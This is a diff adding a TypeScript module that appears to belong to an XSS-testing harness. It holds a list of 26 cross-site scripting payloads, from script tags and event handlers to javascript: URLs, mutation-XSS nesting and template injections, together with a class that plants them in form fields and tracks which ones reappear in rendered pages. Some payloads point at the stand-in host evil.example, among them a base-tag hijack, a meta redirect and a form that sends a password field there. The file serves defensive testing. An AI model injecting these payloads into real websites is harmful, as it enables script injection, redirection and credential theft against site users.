@@ -1,0 +1,103 @@
+/**
+ * Texts that become scripts, requests or markup wherever a page or its scripts take them for more than text. Each says
+ * whose it is by its mark; markup carries `data-xss`, so that it is found in a page though the policy stopped it.
+ */
+const payloads: readonly ((mark: string) => string)[] = [
+  (mark) => `<script data-xss>__xss(${mark})</script>`,
+  (mark) => `<img data-xss src=/xss-probe onerror=__xss(${mark})>`,
+  (mark) => `"><svg data-xss onload=__xss(${mark})>`,
+  (mark) => `'><b data-xss autofocus tabindex=1 onfocus=__xss(${mark})>`,
+  (mark) => `" data-xss="${mark}" autofocus onfocus="__xss(${mark})`,
+  (mark) => `' data-xss='${mark}' onpointerenter='__xss(${mark})`,
+  (mark) => `</title></textarea></script></style><b data-xss>${mark}</b>`,
+  (mark) => `<a data-xss href=javascript:__xss(${mark})>${mark}</a>`,
+  (mark) => `javascript:__xss(${mark})//`,
+  (mark) => `JaVaScRiPt:__xss(${mark})//`,
+  (mark) => `data:text/html,<script data-xss>__xss(${mark})</script>`,
+  (mark) => `<iframe data-xss srcdoc="<script>parent.__xss(${mark})</script>">`,
+  (mark) => `<b data-xss hx-get=/xss-probe hx-trigger=load hx-on:load=__xss(${mark})>`,
+  (mark) => `"data-xss hx-get="/xss-probe?${mark}" hx-trigger="load`,
+  (mark) => `<base data-xss href=//evil.example/${mark}/>`,
+  (mark) => `<meta data-xss http-equiv=refresh content="0;url=//evil.example/${mark}">`,
+  (mark) => `<style data-xss>@import"//evil.example/${mark}"</style>`,
+  (mark) => `--><img data-xss src=//evil.example/${mark}><!--`,
+  (mark) => `\${__xss(${mark})}{{__xss(${mark})}}<%=__xss(${mark})%>`,
+  (mark) => `&lt;img data-xss src=/xss-probe onerror=__xss(${mark})&gt;`,
+  (mark) => `<form data-xss action=//evil.example/${mark}><input name=password>`,
+  (mark) => `<math><mtext><style><img data-xss src=/xss-probe onerror=__xss(${mark})>`,
+  (mark) => `";__xss(${mark});//\\";__xss(${mark})//`,
+  (mark) => `]]><object data-xss data=/xss-probe?${mark}></object>`,
+  (mark) => `<link data-xss rel=stylesheet href=/xss-probe?${mark}>`,
+  (mark) => `//evil.example/${mark}/..;/"><i data-xss>`,
+];
+
+export const payloadCount = payloads.length;
+
+/** Where a text is taken only if it has this shape, the texts of it that fit. */
+export type Room = { readonly longest?: number; readonly shape?: RegExp };
+
+type Planted = { readonly field: string; readonly text: string };
+
+const marks = /(?<!\d)9\d{8}(?!\d)/g;
+
+/** What was put where, and what of it has been read in a page again. */
+export class Plants {
+  readonly #planted = new Map<string, Planted>();
+  readonly #fields = new Map<string, number>();
+  readonly #texts = new Set<string>();
+  #next: number;
+
+  readonly #firstMark: number;
+
+  /**
+   * @param series a digit of its own, so that no two have the same marks
+   * @param first with which of the texts it begins; from there they take turns
+   */
+  constructor(series: number, first: number) {
+    this.#firstMark = 900_000_000 + series * 10_000_000;
+    this.#next = first;
+  }
+
+  /** The next text for a field. */
+  text(field: string, { longest = 100, shape = /^/ }: Room = {}): string {
+    for (let turn = 0; turn < payloads.length; turn += 1) {
+      const mark = String(this.#firstMark + this.#planted.size);
+      const text = payloads[(this.#next + turn) % payloads.length]?.(mark) ?? "";
+      if (text.length > longest || !shape.test(text)) continue;
+      this.#next += turn + 1;
+      this.#planted.set(mark, { field, text });
+      if (!this.#fields.has(field)) this.#fields.set(field, 0);
+      return text;
+    }
+    throw new Error(`no text fits ${field}`);
+  }
+
+  /** Notes what of it stands in what a page shows: whole, as text or as an attribute's value. */
+  read(shown: string): void {
+    for (const [mark] of shown.matchAll(marks)) {
+      const planted = this.#planted.get(mark);
+      if (planted === undefined || this.#texts.has(mark) || !shown.includes(planted.text)) continue;
+      this.#texts.add(mark);
+      this.#fields.set(planted.field, (this.#fields.get(planted.field) ?? 0) + 1);
+    }
+  }
+
+  /** Whose text it is that was found where it should not be. */
+  fieldsIn(found: string): string {
+    const fields = [...found.matchAll(marks)].map(([mark]) => this.#planted.get(mark)?.field ?? mark);
+    return [...new Set(fields)].join(", ") || "nobody knows what";
+  }
+
+  get seen(): number {
+    return this.#texts.size;
+  }
+
+  get fields(): number {
+    return this.#fields.size;
+  }
+
+  /** Fields of which no text has been read anywhere: nothing is known of these. */
+  unseen(): string[] {
+    return [...this.#fields].flatMap(([field, count]) => (count === 0 ? [field] : []));
+  }
+}
